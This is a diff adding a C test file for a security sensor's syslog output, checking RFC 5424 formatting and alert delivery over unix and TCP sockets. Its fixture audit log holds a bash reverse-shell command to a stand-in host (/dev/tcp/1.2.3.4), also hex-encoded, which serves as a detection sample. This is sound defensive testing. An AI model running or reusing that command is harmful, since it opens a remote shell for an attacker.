@@ -1,0 +1,250 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/*
+ * rtsensor's syslog sink: the RFC 5424 text, bad targets, and real
+ * delivery of replayed alerts to a unix datagram socket and (root, in a
+ * network namespace of the test's own) a TCP collector with octet-counted
+ * frames; undelivered alerts are counted and fail the run.
+ */
+#include <arpa/inet.h>
+#include <criterion/criterion.h>
+#include <errno.h>
+#include <jansson.h>
+#include <netinet/in.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "syslog-sink.h"
+#include "testlib.h"
+
+/* A benign exec learned, the same one monitored, then a reverse shell from an unknown binary. */
+#define EXEC(T, S, EXE, COMM, ARGS, TITLE)                                                       \
+	"type=SYSCALL msg=audit(" T ":" S "): arch=c000003e syscall=59 success=yes exit=0 a0=1 "    \
+	"a1=2 a2=3 a3=0 items=2 ppid=99 pid=" S " auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 "     \
+	"egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"" COMM "\" exe=\"" EXE "\" key=\"k\"\n"         \
+	"type=EXECVE msg=audit(" T ":" S "): " ARGS "\n"                                            \
+	"type=PROCTITLE msg=audit(" T ":" S "): proctitle=" TITLE "\n"                              \
+	"type=EOE msg=audit(" T ":" S "): \n"
+static const char log_text[] =
+	EXEC("1767225600.000", "1", "/usr/bin/ls", "ls", "argc=1 a0=\"ls\"", "6C73")
+	EXEC("1767225620.000", "2", "/usr/bin/ls", "ls", "argc=1 a0=\"ls\"", "6C73")
+	EXEC("1767225640.000", "3", "/tmp/.x/m1", "sh",
+	     "argc=3 a0=\"sh\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/1.2.3.4/1 0>&1\"",
+	     "7368002D630062617368202D69203E26202F6465762F7463702F312E322E332E342F3120303E2631");
+
+static char dir[64];
+
+static void setup(void)
+{
+	FILE *f;
+	char p[128];
+
+	snprintf(dir, sizeof(dir), "/tmp/syslog-test-XXXXXX");
+	cr_assert_not_null(mkdtemp(dir));
+	snprintf(p, sizeof(p), "%s/audit.log", dir);
+	f = fopen(p, "w");
+	cr_assert_not_null(f);
+	fputs(log_text, f);
+	fclose(f);
+}
+
+static void teardown(void)
+{
+	char cmd[128];
+
+	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
+	run_sh(cmd);
+}
+
+/* rtsensor replay of the log with --syslog TARGET; its exit code. */
+static int replay_to(const char *target, const char *extra)
+{
+	char cmd[1024];
+
+	snprintf(cmd, sizeof(cmd),
+		 "\"$RTSENSOR\" replay --audit '%s/audit.log' --mode learn --learn-min 5 "
+		 "--learn-stable 5 --alerts /dev/null --syslog '%s' %s",
+		 dir, target, extra ? extra : "");
+	return run_sh(cmd);
+}
+
+/* Check one message: PRI, version, host, app, MSGID, and a JSON alert as MSG. */
+static void check_msg(const char *m, size_t n, const char *want_pri, const char *want_msgid)
+{
+	char host[256] = "", head[64];
+	const char *sp, *json;
+	json_t *j;
+	json_error_t e;
+
+	gethostname(host, sizeof(host) - 1);
+	cr_assert_eq(strncmp(m, want_pri, strlen(want_pri)), 0, "PRI of: %.*s", (int)n, m);
+	cr_assert_eq(strncmp(m + strlen(want_pri), "1 2026-", 7), 0, "version and a timestamp");
+	sp = memchr(m + strlen(want_pri) + 2, ' ', n - strlen(want_pri) - 2);
+	cr_assert_not_null(sp);
+	cr_assert_eq(sp[-1], 'Z', "UTC timestamp");
+	snprintf(head, sizeof(head), " %s rtsensor ", host);
+	cr_assert_eq(strncmp(sp, head, strlen(head)), 0, "host and app in: %.*s", (int)n, m);
+	sp = strchr(sp + strlen(head), ' '); /* after PROCID */
+	cr_assert_not_null(sp);
+	cr_assert_eq(strncmp(sp + 1, want_msgid, strlen(want_msgid)), 0, "MSGID in: %.80s", sp);
+	cr_assert_eq(strncmp(sp + 1 + strlen(want_msgid), " - {", 4), 0, "no SD, then the JSON");
+	json = sp + 1 + strlen(want_msgid) + 3;
+	j = json_loadb(json, n - (size_t)(json - m), 0, &e);
+	cr_assert_not_null(j, "MSG is JSON: %s", e.text);
+	cr_assert_not_null(json_object_get(j, "alert"));
+	json_decref(j);
+}
+
+Test(syslog, format_is_rfc5424, .init = setup, .fini = teardown)
+{
+	struct timespec ts = { .tv_sec = 1767225600, .tv_nsec = 123456789 };
+	char buf[256];
+	size_t n;
+
+	n = syslog_format(buf, sizeof(buf), SENSOR_SEVERITY_CRITICAL, &ts, "web 1", 42,
+			  "reverse-shell-devtcp", "{\"alert\":{}}");
+	cr_assert_str_eq(buf, "<10>1 2026-01-01T00:00:00.123456Z web_1 rtsensor 42 "
+			      "reverse-shell-devtcp - {\"alert\":{}}");
+	cr_assert_eq(n, strlen(buf));
+	/* empty fields are the nil value; MSGID is cut at 32 */
+	syslog_format(buf, sizeof(buf), SENSOR_SEVERITY_LOW, &ts, "", 1,
+		      "a-very-long-message-id-of-more-than-32", "m");
+	cr_assert_str_eq(buf, "<13>1 2026-01-01T00:00:00.123456Z - rtsensor 1 "
+			      "a-very-long-message-id-of-more-t - m");
+	/* a small buffer: cut, terminated, the full length returned */
+	n = syslog_format(buf, 10, SENSOR_SEVERITY_HIGH, &ts, "h", 1, "x", "m");
+	cr_assert_eq(strlen(buf), 9);
+	cr_assert_gt(n, 9);
+}
+
+Test(syslog, bad_targets_are_usage_errors, .init = setup, .fini = teardown)
+{
+	static const char *const bad[] = { "bogus", "udp:", "udp:host", "udp:127.0.0.1:0",
+					   "udp:127.0.0.1:70000", "tcp:[::1:514", "unix:",
+					   "udp:127.0.0.1:5x4" };
+
+	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+		cr_expect_eq(replay_to(bad[i], "2>/dev/null"), 2, "--syslog %s", bad[i]);
+	cr_expect_eq(replay_to("unix:/nonexistent/sock", "2>/dev/null"), 2);
+}
+
+Test(syslog, alerts_reach_a_unix_socket, .init = setup, .fini = teardown)
+{
+	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	char target[128], m[65536];
+	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), got = 0;
+	bool rule = false, reason = false;
+
+	cr_assert_geq(fd, 0);
+	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/log.sock", dir);
+	cr_assert_eq(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
+	snprintf(target, sizeof(target), "unix:%s", sa.sun_path);
+	cr_assert_eq(replay_to(target, NULL), 0);
+	for (;;) {
+		ssize_t n = recv(fd, m, sizeof(m) - 1, MSG_DONTWAIT);
+
+		if (n <= 0)
+			break;
+		m[n] = '\0';
+		got++;
+		if (strstr(m, " reverse-shell-devtcp - ")) {
+			check_msg(m, (size_t)n, "<10>", "reverse-shell-devtcp");
+			rule = true;
+		} else {
+			check_msg(m, (size_t)n, "<11>", "new_exec");
+			reason = true;
+		}
+	}
+	close(fd);
+	cr_assert_eq(got, 2);
+	cr_assert(rule && reason);
+}
+
+Test(syslog, undelivered_alerts_fail_the_run, .init = setup, .fini = teardown)
+{
+	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	char cmd[512], *err;
+	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), st;
+	const char *third = strstr(log_text, "type=SYSCALL msg=audit(1767225640.000");
+	FILE *in;
+	size_t n;
+
+	/* the collector goes away after rtsensor connected to it, before the alerts */
+	cr_assert_geq(fd, 0);
+	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/gone.sock", dir);
+	cr_assert_eq(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
+	snprintf(cmd, sizeof(cmd),
+		 "\"$RTSENSOR\" replay --audit - --mode learn --learn-min 5 --learn-stable 5 "
+		 "--alerts /dev/null --syslog 'unix:%s' 2>'%s/err'", sa.sun_path, dir);
+	in = popen(cmd, "w");
+	cr_assert_not_null(in);
+	fwrite(log_text, 1, (size_t)(third - log_text), in);
+	fflush(in);
+	usleep(300000);
+	close(fd);
+	fputs(third, in);
+	st = pclose(in);
+	cr_assert(WIFEXITED(st) && WEXITSTATUS(st) == 1, "a lost alert fails the run (%d)", st);
+	snprintf(cmd, sizeof(cmd), "%s/err", dir);
+	err = read_file(cmd, &n);
+	cr_assert_not_null(err);
+	cr_assert(strstr(err, "2 of 2 alerts not delivered"), "%s", err);
+	free(err);
+}
+
+Test(syslog, alerts_reach_a_tcp_collector_with_octet_counting, .init = setup, .fini = teardown)
+{
+	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	socklen_t sl = sizeof(sa);
+	char target[64], buf[131072];
+	size_t len = 0, off = 0;
+	int ls, cs, got = 0;
+	pid_t pid;
+
+	REQUIRE_ROOT();
+	cr_assert_eq(unshare(CLONE_NEWNET), 0);
+	cr_assert_eq(run_sh("ip link set lo up"), 0);
+	ls = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	cr_assert_eq(bind(ls, (struct sockaddr *)&sa, sizeof(sa)), 0);
+	cr_assert_eq(listen(ls, 1), 0);
+	cr_assert_eq(getsockname(ls, (struct sockaddr *)&sa, &sl), 0);
+	snprintf(target, sizeof(target), "tcp:127.0.0.1:%d", ntohs(sa.sin_port));
+	pid = fork();
+	if (pid == 0)
+		_exit(replay_to(target, NULL));
+	cs = accept(ls, NULL, NULL);
+	cr_assert_geq(cs, 0);
+	for (;;) {
+		ssize_t n = recv(cs, buf + len, sizeof(buf) - 1 - len, 0);
+
+		if (n <= 0)
+			break;
+		len += (size_t)n;
+	}
+	{
+		int st;
+
+		waitpid(pid, &st, 0);
+		cr_assert(WIFEXITED(st) && WEXITSTATUS(st) == 0);
+	}
+	/* "LEN SP MSG" frames, back to back */
+	while (off < len) {
+		char *end;
+		unsigned long fl = strtoul(buf + off, &end, 10);
+
+		cr_assert_eq(*end, ' ', "octet count at %zu", off);
+		cr_assert_leq((size_t)(end + 1 - buf) + fl, len, "frame of %lu bytes fits", fl);
+		check_msg(end + 1, fl, strncmp(end + 1, "<10>", 4) == 0 ? "<10>" : "<11>",
+			  strncmp(end + 1, "<10>", 4) == 0 ? "reverse-shell-devtcp" : "new_exec");
+		off = (size_t)(end + 1 - buf) + fl;
+		got++;
+	}
+	close(cs);
+	close(ls);
+	cr_assert_eq(got, 2);
+}
